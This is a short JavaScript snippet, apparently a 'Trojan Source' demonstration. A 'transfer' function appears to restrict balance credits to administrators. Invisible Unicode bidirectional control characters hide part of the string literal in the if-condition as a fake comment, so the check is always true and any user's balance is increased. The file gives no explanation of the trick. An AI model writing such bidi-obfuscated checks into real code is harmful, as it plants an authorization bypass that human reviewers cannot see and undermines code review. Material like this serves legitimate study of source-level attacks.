export function transfer(user, amount) {
  const level = 'user';
  if (level !== 'user‮ ⁦// only for administrators⁩ ⁦') {
    user.balance += amount;
  }
}
